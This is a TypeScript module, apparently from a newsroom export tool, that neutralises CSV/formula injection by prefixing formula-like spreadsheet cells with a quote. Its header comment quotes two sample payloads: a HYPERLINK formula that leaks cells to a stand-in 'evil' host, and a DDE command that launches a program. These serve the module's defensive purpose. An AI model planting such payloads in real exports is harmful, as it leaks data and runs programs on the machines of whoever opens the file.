/**
 * Guard against CSV/formula injection (OWASP "CSV Injection"): a cell that starts with `=`, `+`, `-`
 * or `@` is run as a formula by Excel, LibreOffice and Google Sheets, so text typed by a reporter or
 * lifted from an article (`=HYPERLINK("http://evil/?"&A1, "klik")`, `=cmd|' /C calc'!A0`) could leak
 * other cells or launch programs on the desk's machine that opens the export. Every CSV and XLSX
 * export passes its cells through here, so the rule lives in one place.
 *
 * Choices:
 * - Only strings are touched. A number, boolean, date or null is data the writer formats itself; a
 *   negative NUMBER (-5) is not a formula. A string "-5" is quoted: exporters pass numbers as numbers.
 * - Besides OWASP's first-character list (`= + - @`, tab, carriage return) the full-width forms
 *   `＝ ＋ － ＠` count: spreadsheets set up for East Asian input may fold them to ASCII, and quoting
 *   them costs real text next to nothing (defence in depth).
 * - A trigger after leading white space counts too: importers that trim cells ("trim spaces" in
 *   LibreOffice's CSV dialog) would otherwise expose it. Real text rarely starts that way.
 * - The fix is OWASP's: a leading `'`, which spreadsheets read as "this is text". Some programs show
 *   the quote; that visible mark is the accepted cost.
 * - Phone numbers such as "+62 812-3456-7890" get the quote as well. That is the accepted trade-off:
 *   an exemption for "looks like a phone number" is a pattern an attacker can shape a payload to
 *   fit, and unquoted they would be mangled anyway (turned into 6.28E+12, or a formula error).
 * - In XLSX a string cell is never evaluated, but the same text can be re-saved as CSV and both
 *   formats should show the same thing, so XLSX exports use the guard too.
 * CSV quoting of commas, quotes and newlines is the CSV writer's job, not this module's.
 */

const FORMULA_START = /^(?:[\t\r]|[\s\u200B]*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/u;

/** Whether a spreadsheet program could read this text as a formula. */
export function isFormulaLike(text: string): boolean {
  return FORMULA_START.test(text);
}

/** The cell made safe to open in a spreadsheet: dangerous text gets a leading `'`, all else is unchanged. */
export function neutraliseCell(value: string): string;
export function neutraliseCell<T>(value: T): T;
export function neutraliseCell(value: unknown): unknown {
  return typeof value === 'string' && isFormulaLike(value) ? `'${value}` : value;
}

/** A row's cells as written: strings that were literal types are widened, since they may change. */
export type NeutralisedRow<T> = { [K in keyof T]: T[K] extends string ? string : T[K] };

/** Every cell of a row (an array, or an object of column → value) through `neutraliseCell`; nested values are not walked. */
export function neutraliseRow<T extends readonly unknown[] | Readonly<Record<string, unknown>>>(row: T): NeutralisedRow<T> {
  const cells = Array.isArray(row)
    ? row.map((cell: unknown) => neutraliseCell(cell))
    : Object.fromEntries(Object.entries(row).map(([column, cell]) => [column, neutraliseCell(cell)]));
  return cells as NeutralisedRow<T>;
}
